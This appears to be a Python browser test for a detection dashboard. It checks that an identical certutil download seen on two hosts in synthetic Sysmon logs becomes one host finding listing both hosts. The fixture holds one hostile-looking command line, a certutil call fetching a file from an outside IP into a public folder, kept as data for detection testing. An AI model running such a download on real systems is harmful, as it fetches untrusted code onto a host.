"""One act on several hosts no fan-out cluster holds is one host finding, and its page lists the hosts and says
each hit's host (HOSTF2, analytics/host_finding_groups.py, js/host_finding.js).

In Chromium against the real service: two hosts run the same certutil download (Sysmon lines of our own
making, NXLog's flat shape; two hosts are under min_hosts, so no fan-out cluster forms).  Before, they were two
cases, each titled with its host.  Host names are text, never markup.
"""

from __future__ import annotations

import json

import pytest

from tests.web.conftest import start_site
from tests.web.corpus_site import ingesting
from tests.web.queue_helpers import sign_in_to_queue

pytestmark = pytest.mark.browser

FETCH = "certutil.exe -urlcache -split -f https://203.0.113.9/p.txt C:\\Users\\Public\\p.exe"


def _records() -> list[dict]:
    return [{"Hostname": f"WS-G{n}.corp.example", "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
             "SourceName": "Microsoft-Windows-Sysmon", "UtcTime": f"2026-11-02 10:0{n}:00.000",
             "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": FETCH, "OriginalFileName": "CertUtil.exe",
             "ProcessGuid": f"{{22222222-0000-0000-0000-00000000000{n}}}", "ProcessId": str(4000 + n),
             "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "CORP\\bob"} for n in (1, 2)]


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    records = _records()
    path = tmp_path_factory.mktemp("sysmon") / "nxlog.ndjson"
    path.write_text("".join(json.dumps(record) + "\n" for record in records))
    with start_site(tmp_path_factory.mktemp("hostg"), ingesting([path], accepted=len(records))) as running:
        running.detect()
        yield running


def test_one_download_on_two_hosts_is_one_case_listing_both(page, site):
    [case] = site.api("GET", "/v1/clusters")["items"]
    detail = site.api("GET", f"/v1/clusters/{case['id']}")
    assert case["hosts"] == ["ws-g1", "ws-g2"] and case["score"] == 71.0
    assert detail["host_finding"]["hosts"] == ["ws-g1", "ws-g2"]
    assert [h["host"] for h in detail["host_finding"]["hits"]] == ["ws-g1", "ws-g2"]
    sign_in_to_queue(page, site)
    page.click(f"#queue-body tr[data-cluster-id='{case['id']}']")
    page.wait_for_selector("body[data-state=cluster-ready]")
    assert page.text_content("#cluster-host-finding h3") == "Host finding on 2 hosts"
    hosts = page.eval_on_selector_all("#cluster-host-finding .host-finding-hosts li", "items => items.map(li => li.textContent)")
    assert hosts == ["ws-g1", "ws-g2"]
    hits = page.eval_on_selector_all("#cluster-host-finding .host-finding-hits li > span.muted",
                                     "items => items.map(i => i.textContent)")
    assert [h.split(" · ")[1] for h in hits] == ["ws-g1", "ws-g2"]
    assert "on these hosts" in page.text_content("#cluster-host-finding .host-finding-verdict-scope")
